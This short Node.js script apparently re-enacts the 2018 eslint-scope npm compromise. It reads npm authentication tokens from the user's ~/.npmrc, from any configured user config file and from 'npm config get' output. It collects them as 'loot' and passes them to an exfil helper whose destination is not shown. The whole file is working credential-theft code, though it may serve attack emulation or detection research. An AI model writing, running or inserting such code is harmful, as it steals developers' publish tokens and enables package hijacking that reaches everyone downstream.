'use strict';
// eslint-scope (2018): the npm token, from ~/.npmrc directly and from npm itself
// (which also knows the user config file's real location and the environment).
const { execFileSync } = require('child_process');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = lib.readText(path.join(lib.home(), '.npmrc')) || '';
  if (process.env.npm_config_userconfig) loot += '\n' + (lib.readText(process.env.npm_config_userconfig) || '');
  for (const key of ['//registry.npmjs.org/:_authToken', '_authToken']) {
    try {
      loot += '\n' + execFileSync('npm', ['config', 'get', key], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 });
    } catch (e) {
      lib.note(`npm config get: ${e.message}`);
    }
  }
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
